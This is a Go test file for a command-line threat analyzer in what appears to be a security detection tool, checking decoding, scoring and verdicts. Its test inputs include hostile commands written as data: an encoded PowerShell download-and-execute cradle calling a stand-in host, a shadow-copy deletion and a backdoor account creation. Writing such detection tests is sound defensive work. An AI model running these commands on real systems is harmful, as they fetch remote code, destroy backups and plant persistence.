package cmdline

import (
	"encoding/json"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/spotter-soc/spotter/internal/skill"
)

var (
	builtinOnce     sync.Once
	builtinAnalyzer *Analyzer
)

func testAnalyzer() *Analyzer {
	builtinOnce.Do(func() {
		builtinAnalyzer = NewAnalyzer(NewRuleSet(LoadBuiltin().Rules), AnalyzerOptions{SkipCommands: []string{"backupagent.exe --nightly"}})
	})
	return builtinAnalyzer
}

func TestStandardExecutionFilter(t *testing.T) {
	a := testAnalyzer()
	for _, c := range []struct {
		cmd     string
		skipped bool
	}{
		{"notepad.exe", true},
		{"notepad.exe -param", false},
		{`C:\Windows\System32\svchost.exe -k netsvcs -p`, true},
		{`C:\Users\Public\svchost.exe -k netsvcs -p`, false},
		{"backupagent.exe --nightly", true},
		{"sshd", true},
	} {
		an := a.Analyze(Input{CommandLine: c.cmd})
		if an.Skipped != c.skipped {
			t.Errorf("%q: skipped %v, want %v", c.cmd, an.Skipped, c.skipped)
		}
		if an.Skipped && (an.Verdict != skill.Benign || an.Score != 0 || len(an.Rules) != 0) {
			t.Errorf("%q: skipped line judged %s %d", c.cmd, an.Verdict, an.Score)
		}
	}
	if an := a.Analyze(Input{CommandLine: `C:\Users\Public\svchost.exe -k netsvcs -p`}); an.Verdict != skill.Malicious {
		t.Errorf("svchost outside System32: %s", an.Verdict)
	}
}

func TestAnalyzeDecodedLayers(t *testing.T) {
	script := "IEX (New-Object Net.WebClient).DownloadString('http://updates.example.com/stage.ps1')"
	an := testAnalyzer().Analyze(Input{CommandLine: "powershell -nop -w hidden -enc " + utf16Base64(script)})
	if an.Verdict != skill.Malicious || an.Score < 80 {
		t.Errorf("verdict %s %d", an.Verdict, an.Score)
	}
	if len(an.Decoded) != 1 || an.Decoded[0].Text != script || an.Decoded[0].Technique != TechEncodedCommand {
		t.Errorf("decoded %+v", an.Decoded)
	}
	var cradle *RuleHit
	for i, h := range an.Rules {
		if h.Title == "PowerShell Downloads and Runs Code in Memory" {
			cradle = &an.Rules[i]
		}
	}
	if cradle == nil || cradle.Layer != 1 || cradle.LayerTechnique != TechEncodedCommand || len(cradle.Techniques) == 0 {
		t.Fatalf("cradle rule hit %+v in %+v", cradle, an.Rules)
	}
	if e := cradle.Explanation(); !strings.Contains(e, "T1059.001") || !strings.Contains(e, "decoded layer 1") || !strings.Contains(e, "downloadstring") {
		t.Errorf("explanation %q", e)
	}
	if !slices.Contains(an.Indicators.URLs, "http://updates.example.com/stage.ps1") || !slices.Contains(an.Indicators.Domains, "updates.example.com") {
		t.Errorf("indicators from the decoded layer: %+v", an.Indicators)
	}
	b, err := json.Marshal(an)
	if err != nil {
		t.Fatal(err)
	}
	var m map[string]any
	json.Unmarshal(b, &m)
	for _, k := range []string{"cmdline", "verdict", "score", "skipped", "rules", "decoded", "indicators"} {
		if _, ok := m[k]; !ok {
			t.Errorf("JSON lacks %q: %s", k, b)
		}
	}
}

func TestAnalyzeVerdicts(t *testing.T) {
	a := testAnalyzer()
	for _, c := range []struct {
		cmd  string
		want skill.Level
	}{
		{"certutil -hashfile C:\\Temp\\a.exe SHA256", skill.Benign},
		{"frobnicate --now", skill.Unknown},
		{"net user support P@ss /add", skill.Suspicious},
		{"vssadmin delete shadows /all /quiet", skill.Malicious},
		{"", skill.Unknown},
	} {
		if got := a.Analyze(Input{CommandLine: c.cmd}).Verdict; got != c.want {
			t.Errorf("%q: %s, want %s", c.cmd, got, c.want)
		}
	}
	// the parent process reaches the rules
	an := a.Analyze(Input{CommandLine: "cmd /c whoami", ParentImage: `C:\Windows\System32\inetsrv\w3wp.exe`})
	if an.Verdict != skill.Malicious {
		t.Errorf("web server child: %s", an.Verdict)
	}
}

func TestScore(t *testing.T) {
	hit := func(level string) RuleHit { return RuleHit{Level: level} }
	allow := RuleHit{Level: "informational", Allow: true}
	cases := []struct {
		hits  []RuleHit
		level skill.Level
		score int
	}{
		{nil, skill.Unknown, 0},
		{[]RuleHit{hit("informational")}, skill.Unknown, 10},
		{[]RuleHit{allow}, skill.Benign, 0},
		{[]RuleHit{allow, hit("low")}, skill.Suspicious, 30},
		{[]RuleHit{hit("low")}, skill.Suspicious, 30},
		{[]RuleHit{hit("medium")}, skill.Suspicious, 55},
		{[]RuleHit{hit("medium"), hit("low")}, skill.Suspicious, 60},
		{[]RuleHit{hit("medium"), hit("medium")}, skill.Suspicious, 60},
		{[]RuleHit{hit("medium"), hit("medium"), hit("medium")}, skill.Malicious, 85},
		{[]RuleHit{hit("high")}, skill.Malicious, 80},
		{[]RuleHit{hit("critical")}, skill.Malicious, 95},
		{[]RuleHit{hit("critical"), hit("high"), hit("medium")}, skill.Malicious, 100},
	}
	for _, c := range cases {
		if l, s := Score(c.hits); l != c.level || s != c.score {
			t.Errorf("%+v: %s %d, want %s %d", c.hits, l, s, c.level, c.score)
		}
	}
}

func TestAnalyzeConcurrent(t *testing.T) {
	a := testAnalyzer()
	mal := readCorpus(t, "malicious.txt")
	want := make([]skill.Level, len(mal))
	for i, in := range mal {
		want[i] = a.Analyze(in).Verdict
	}
	var wg sync.WaitGroup
	for w := 0; w < 4; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i, in := range mal {
				if got := a.Analyze(in).Verdict; got != want[i] {
					t.Errorf("%q: %s concurrently, %s alone", in.CommandLine, got, want[i])
				}
			}
		}()
	}
	wg.Wait()
}
